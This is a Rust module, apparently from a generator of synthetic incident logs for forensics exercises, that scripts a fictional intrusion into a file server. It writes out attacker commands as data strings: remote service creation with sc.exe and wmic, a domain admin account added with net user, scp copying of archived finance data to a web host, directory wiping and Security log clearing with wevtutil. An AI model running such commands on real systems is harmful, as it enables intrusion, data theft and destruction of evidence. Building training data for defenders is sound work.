//! From the workstation to the servers and the web host, the covering of tracks, and the containment.

use crate::boot::Uptime;
use crate::cast::{
    self, BACKUP_SERVER, DC, FILE_SERVER, GATEWAY, Host, JUMP_HOST, PEOPLE, Person, VICTIM, VICTIM_HOST, WEB_1,
};
use crate::change;
use crate::intrusion::{POWERSHELL, Trail};
use crate::ledger::{Actor, Arrival, Failure, Ledger, LogonKind, Reason, Token};
use crate::payload;
use crate::server_room::{remote_desktop, uptime_at};
use crate::story::{ARCHIVE_PARTS, indicator as ioc, when};
use crate::time::{MINUTE, SECOND, Time, march};

const CMD: &str = "C:\\Windows\\System32\\cmd.exe";

/// At night the attacker goes on with the backup account, which otherwise only works in the evening.
pub fn run(ledger: &mut Ledger, servers: &[Uptime], implant: &Actor, trail: &mut Trail) -> Option<()> {
    missed_tries(ledger);
    let (time, use_of) = (when::LATERAL.plus(-420), (&FILE_SERVER, ioc::IMPLANT));
    change::explicit_credentials(ledger, time, implant.host, &implant.token, &cast::svc_backup(), use_of);
    let token = backup_logon(ledger, when::LATERAL, &FILE_SERVER, &VICTIM_HOST);
    trail.lateral_logon_id = token.logon_id;
    remote_service(ledger, implant);
    let uptime = uptime_at(servers, &FILE_SERVER, when::STAGING)?;
    staging(ledger, uptime, trail);
    new_account(ledger, uptime, &token, trail);
    let system = Token::system(&FILE_SERVER);
    copies(ledger, &Actor::new(&FILE_SERVER, &system, uptime.services).below(trail.staging));
    towards_the_web(ledger, servers)?;
    cover_tracks(ledger, uptime, trail);
    containment(ledger);
    tries_after_containment(ledger);
    Some(())
}

fn remote_service(ledger: &mut Ledger, implant: &Actor) {
    let file = format!("%COMSPEC% /c {}", payload::staging_command());
    change::service_installed(ledger, when::SERVICE_INSTALLED, &FILE_SERVER, ioc::SERVICE, &file);
    let create = format!("sc.exe \\\\NDX-FS-01 create {} binPath= \"{file}\" start= demand", ioc::SERVICE);
    implant.run(ledger, when::SERVICE_INSTALLED.plus(-380), "C:\\Windows\\System32\\sc.exe", create);
    let start = "wmic /node:NDX-FS-01 /user:NORD\\svc-backup process call create \"sc start NdxSyncSvc\"";
    implant.run(ledger, when::STAGING.plus(-6_200), "C:\\Windows\\System32\\wbem\\WMIC.exe", start);
}

fn staging(ledger: &mut Ledger, uptime: &Uptime, trail: &mut Trail) {
    let services = Actor::new(&FILE_SERVER, &Token::system(&FILE_SERVER), uptime.services);
    let command = format!("C:\\Windows\\system32\\cmd.exe /c {}", payload::staging_command());
    trail.service_shell = services.run(ledger, when::STAGING.plus(-2_300), CMD, command);
    let shell = services.below(trail.service_shell);
    trail.staging = shell.console(ledger, when::STAGING.plus(166), POWERSHELL, payload::staging_command());
    let zip = "C:\\Program Files\\7-Zip\\7z.exe";
    let pack = format!("\"{zip}\" a -v256m -mhe=on -p9Tq27LmV {} D:\\Shares\\Finance\\FY25", ioc::ARCHIVE);
    trail.archive = services.below(trail.staging).run(ledger, when::STAGING.plus(3 * SECOND), zip, pack);
}

/// Before the file server answers, the account is tried where it has no business.
fn missed_tries(ledger: &mut Ledger) {
    for (place, host) in [&GATEWAY, &JUMP_HOST, &BACKUP_SERVER, &JUMP_HOST, &GATEWAY, &DC].into_iter().enumerate() {
        let wait = i64::try_from(place).unwrap_or(0) * 13 * SECOND;
        ledger.failures.push(Failure {
            time: when::LATERAL.plus(wait - 5 * MINUTE),
            host,
            who: cast::svc_backup(),
            kind: LogonKind::NetworkNtlm,
            ip: VICTIM_HOST.ip.to_owned(),
            workstation: VICTIM_HOST.name.to_owned(),
            reason: Reason::BadPassword,
        });
    }
}

fn backup_logon(ledger: &mut Ledger, time: Time, host: &'static Host, from: &Host) -> Token {
    ledger.log_on(Arrival {
        time: time.plus(212),
        end: None,
        host,
        who: cast::svc_backup(),
        kind: LogonKind::NetworkNtlm,
        from: Some((from.name.to_owned(), from.ip.to_owned())),
        privileged: true,
    })
}

fn new_account(ledger: &mut Ledger, uptime: &Uptime, token: &Token, trail: &mut Trail) {
    let services = Actor::new(&FILE_SERVER, token, uptime.services);
    let prompt = services.console(ledger, when::ACCOUNT_CREATED.plus(-40 * SECOND), CMD, "cmd.exe /q");
    let on_dc = backup_logon(ledger, when::ACCOUNT_CREATED.plus(-900), &DC, &FILE_SERVER);
    let adds = [
        ("net user adm-temp Rk4-vale-91 /add /domain", -180),
        ("net group \"Domain Admins\" adm-temp /add /domain", 20_820),
    ];
    for (command, wait) in adds {
        let time = when::ACCOUNT_CREATED.plus(wait);
        trail.user_added = services.below(prompt).run(ledger, time, "C:\\Windows\\System32\\net.exe", command);
    }
    let (time, who) = (when::ACCOUNT_CREATED, cast::adm_temp());
    change::account_created(ledger, time, &DC, &on_dc, &who);
    change::group_member_added(ledger, time.plus(21 * SECOND), &DC, &on_dc, &who, "Domain Admins");
}

/// With the new account to the jump host, and from there to the web host in the outer network.
fn towards_the_web(ledger: &mut Ledger, servers: &[Uptime]) -> Option<()> {
    let time = when::JUMP_LOGON;
    let token = remote_desktop(ledger, time.plus(87), &JUMP_HOST, cast::adm_temp(), &FILE_SERVER, 34 * MINUTE);
    let uptime = uptime_at(servers, &JUMP_HOST, time)?;
    let winlogon = Actor::new(&JUMP_HOST, &token, uptime.winlogon);
    let desktop = winlogon.run(ledger, time.plus(3_900), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    let prompt = format!("\"{CMD}\"");
    let shell = winlogon.below(desktop).console(ledger, time.plus(95 * SECOND), CMD, prompt);
    let hop = format!("ssh.exe svc-backup@{}", WEB_1.ip);
    let ssh = "C:\\Windows\\System32\\OpenSSH\\ssh.exe";
    winlogon.below(shell).run(ledger, when::WEB_LOGIN.plus(-2_700), ssh, hop);
    Some(())
}

/// The parts go to the web host while nobody counts the traffic.
fn copies(ledger: &mut Ledger, stager: &Actor) {
    let scp = "C:\\Windows\\System32\\OpenSSH\\scp.exe";
    for part in 1..=ARCHIVE_PARTS {
        let copy = format!("scp.exe -B {}.{part:03} svc-backup@{}:{}/", ioc::ARCHIVE, WEB_1.ip, ioc::LINUX_DIR);
        let time = when::COPY_START.plus((part - 1) * 243 * SECOND + part * 13);
        stager.run(ledger, time, scp, copy);
    }
}

fn cover_tracks(ledger: &mut Ledger, uptime: &Uptime, trail: &mut Trail) {
    let token = backup_logon(ledger, when::LOG_CLEARED.plus(-70 * SECOND), &FILE_SERVER, &JUMP_HOST);
    let services = Actor::new(&FILE_SERVER, &token, uptime.services);
    let prompt = services.console(ledger, when::LOG_CLEARED.plus(-41 * SECOND), CMD, "cmd.exe /q");
    let shell = services.below(prompt);
    let wipe = format!("cmd.exe /c rd /s /q {}", ioc::STAGE_DIR);
    shell.run(ledger, when::LOG_CLEARED.plus(-19 * SECOND), CMD, wipe);
    let clear = "wevtutil.exe cl Security";
    trail.log_cleared = shell.run(ledger, when::LOG_CLEARED.plus(-240), "C:\\Windows\\System32\\wevtutil.exe", clear);
    change::log_cleared(ledger, when::LOG_CLEARED, &FILE_SERVER, &token);
}

fn principal_of(name: &str) -> cast::Principal {
    PEOPLE.iter().find(|person| person.name == name).map_or_else(cast::nobody, Person::principal)
}

fn containment(ledger: &mut Ledger) {
    let admin = principal_of("it-admin-1");
    let token = remote_desktop(ledger, when::DETECTED.plus(6 * MINUTE), &DC, admin, &JUMP_HOST, 55 * MINUTE);
    let time = when::ACCOUNT_DISABLED;
    change::account_disabled(ledger, time, &DC, &token, &cast::adm_temp());
    change::password_reset(ledger, time.plus(96 * SECOND), &DC, &token, &principal_of(VICTIM));
    change::password_reset(ledger, time.plus(171 * SECOND), &DC, &token, &cast::svc_backup());
}

/// The attacker tries the new account again at the weekend, from the web host and from outside.
fn tries_after_containment(ledger: &mut Ledger) {
    let tries = [
        (march(7, 2, 11, 5), &JUMP_HOST, WEB_1.ip),
        (march(7, 2, 11, 31), &DC, WEB_1.ip),
        (march(8, 1, 58, 40), &GATEWAY, ioc::RETURN_IP),
    ];
    for (time, host, ip) in tries {
        for again in 0..3 {
            ledger.failures.push(Failure {
                time: time.plus(again * 4_400),
                host,
                who: cast::adm_temp(),
                kind: LogonKind::NetworkNtlm,
                ip: ip.to_owned(),
                workstation: "WORKSTATION".to_owned(),
                reason: Reason::Disabled,
            });
        }
    }
}
